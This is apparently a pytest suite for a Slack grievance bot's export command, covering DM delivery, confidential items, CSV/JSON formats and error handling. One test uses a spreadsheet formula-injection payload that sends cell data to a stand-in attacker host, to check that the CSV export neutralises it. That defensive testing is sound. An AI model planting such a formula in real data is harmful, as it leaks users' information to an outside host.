"""``/grievance export``: a lead takes the case's history away as a file, from Slack.

The real bot over HTTP against the emulator. Ana leads the case in #acme-recovery and has
filed a confidential grievance for Erin; Carla (the client) filed a public one. What each
test checks is what Ana would notice: the private acknowledgement, the file in her DM (the
same document ``grievance-bot export --case CACME --include-confidential`` writes), the
note that says it holds confidential items, the entry on the case timeline; or, when it
cannot be done, one clear sentence and no file. Who else is refused is the authorization
matrix's ``export`` row.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from bot.export import CSV_COLUMNS, build_export, render
from bot.playbook.grievances import GrievanceDraft
from bot.playbook.intake import Where, file
from bot.playbook.timeline import Kind
from bot.sandbox.stack import SandboxStack
from bot.sandbox.workspace import Message, UploadedFile
from bot.slack.identity import Installation
from bot.slack.lookup import profile_of
from storage.models import TimelineEntry
from tests.conftest import shown

CHANNEL = "CACME"
ANA_DM = "DANA"
SECRET = "Erin says the vendor contract is being reviewed"
PUBLIC = "The invoice export broke and nobody told us"
#: Far enough ahead of real time that the sandbox clock stays here for the whole test.
AT = datetime(2031, 5, 2, 14, 30, tzinfo=UTC)


@pytest.fixture
def case(stack: SandboxStack) -> SandboxStack:
    """Ana leads the case with Erin's confidential grievance; Carla filed a public one."""
    ws = stack.workspace
    where = Where(ws.team_id, CHANNEL, "acme-recovery")
    with stack.db.transaction() as session:
        file(
            session=session,
            where=where,
            reporter=profile_of(stack.app.client, "UANA", Installation(ws.team_id)),
            draft=GrievanceDraft(text=SECRET, raised_by_name="Erin", confidential=True),
        )
        file(
            session=session,
            where=where,
            reporter=profile_of(stack.app.client, "UCARLA", Installation(ws.team_id)),
            draft=GrievanceDraft(text=PUBLIC),
        )
    stack.advance(AT)
    return stack


def _export(stack: SandboxStack, text: str = "export", channel: str = CHANNEL) -> str:
    """Ana runs ``/grievance <text>``; returns what she was shown in answer."""
    return shown(stack, "UANA", channel, text)


def _sent_to_ana(stack: SandboxStack) -> list[tuple[Message, UploadedFile]]:
    ws = stack.workspace
    return [
        (message, ws.files[shared["id"]])
        for message in ws.messages
        if message.channel == ANA_DM
        for shared in message.files
    ]


def _told_ana(stack: SandboxStack) -> str:
    """Everything Ana was shown privately in the channel, text and blocks."""
    return "\n".join(
        e.text + json.dumps(e.blocks, ensure_ascii=False)
        for e in stack.workspace.ephemerals
        if e.user == "UANA"
    )


def _exports_on_timeline(stack: SandboxStack) -> list[tuple[str, str]]:
    """(who, what) of each export on the case timeline."""
    with stack.db.transaction() as session:
        entries = session.scalars(
            select(TimelineEntry).where(TimelineEntry.kind == Kind.CASE_EXPORTED)
        ).all()
        return [(e.author.display_name if e.author else "", e.text) for e in entries]


def _cli_document(stack: SandboxStack, fmt: str) -> str:
    """What ``grievance-bot export --case CACME --include-confidential`` writes at ``AT``."""
    with stack.db.transaction() as session:
        document = build_export(
            session=session, case_filter=CHANNEL, include_confidential=True, now=AT
        )
        return render(document, fmt)


def test_a_lead_gets_the_readable_report_by_dm_confidential_items_included(
    case: SandboxStack,
) -> None:
    expected = _cli_document(case, "markdown")

    acknowledgement = _export(case)

    assert "Preparing the export" in acknowledgement and "by DM" in acknowledgement
    [(message, report)] = _sent_to_ana(case)
    assert report.name == "grievance-history-acme-recovery-2031-05-02.md"
    assert report.content.decode("utf-8") == expected  # the operator's export, to the byte
    assert SECRET in expected and PUBLIC in expected
    assert "includes them: 1 confidential grievance(s)" in message.text
    assert all(SECRET not in m.text for m in case.workspace.messages)  # only inside the file
    assert _exports_on_timeline(case) == [
        ("ana", "Exported the case history (markdown, confidential items included) to their DM.")
    ]
    _export(case, "history")
    assert "*Exported* · ana" in _told_ana(case)


def test_json_is_the_lossless_archive(case: SandboxStack) -> None:
    _export(case, "export json")

    [(_, archive)] = _sent_to_ana(case)
    assert archive.name.endswith(".json")
    document = json.loads(archive.content)
    assert document["include_confidential"] is True and document["withheld_confidential"] == 0
    grievances = document["cases"][0]["grievances"]
    assert [(g["text"], g["confidential"]) for g in grievances] == [
        (SECRET, True),
        (PUBLIC, False),
    ]


def test_csv_has_a_row_per_timeline_entry(case: SandboxStack) -> None:
    expected = _cli_document(case, "csv")

    _export(case, "export CSV")

    [(_, table)] = _sent_to_ana(case)
    assert table.name.endswith(".csv") and table.content.decode("utf-8") == expected
    rows = list(csv.DictReader(io.StringIO(expected)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {"true"} == {row["confidential"] for row in rows if row["text"] == SECRET}


def test_a_client_s_formula_stays_text_when_the_lead_opens_the_csv(case: SandboxStack) -> None:
    formula = '=HYPERLINK("http://attacker.example/?q="&A1,"click for details")'
    case.slack.slash_command("UCARLA", CHANNEL, formula)
    case.settle()

    _export(case, "export csv")

    [(_, table)] = _sent_to_ana(case)
    rows = list(csv.DictReader(io.StringIO(table.content.decode("utf-8"))))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + formula in cells  # shown as typed, prefixed so no spreadsheet runs it
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.parametrize("text", ["export pdf", "export everything"])
def test_an_unknown_format_gets_the_usage_and_nothing_is_sent(
    case: SandboxStack, text: str
) -> None:
    acknowledgement = _export(case, text)

    # not a format: asked whether it is a grievance, shown how export is written
    assert "File this as a grievance?" in acknowledgement
    assert "`/grievance export [md | json | csv]`" in acknowledgement
    assert not case.workspace.files and _exports_on_timeline(case) == []


@pytest.mark.parametrize("method", ["files.getUploadURLExternal", "files.completeUploadExternal"])
def test_when_slack_refuses_the_upload_the_lead_is_told_and_nothing_is_recorded(
    case: SandboxStack, method: str
) -> None:
    case.workspace.inject(method, "internal_error")

    _export(case)

    told = _told_ana(case)
    assert "I couldn't send you the export, so nothing was exported." in told
    assert "(`internal_error`). Please try again in a moment" in told
    assert "Traceback" not in told and "SlackApiError" not in told
    assert _sent_to_ana(case) == []
    assert _exports_on_timeline(case) == []


def test_when_the_dm_cannot_be_opened_the_lead_is_told(case: SandboxStack) -> None:
    case.workspace.inject("conversations.open", "internal_error")

    _export(case)

    assert "I couldn't send you the export" in _told_ana(case)
    assert not case.workspace.files and _exports_on_timeline(case) == []


def test_in_a_dm_it_points_to_the_case_channel(case: SandboxStack) -> None:
    dm = case.workspace.dm_channel_for("UANA").id

    acknowledgement = _export(case, channel=dm)

    assert "run `/grievance export` in the case's channel" in acknowledgement
    assert not case.workspace.files


def test_in_a_channel_without_a_case_nothing_is_exported(case: SandboxStack) -> None:
    acknowledgement = _export(case, channel="CINTERNAL")

    assert "There's no case in this channel yet" in acknowledgement
    assert not case.workspace.files
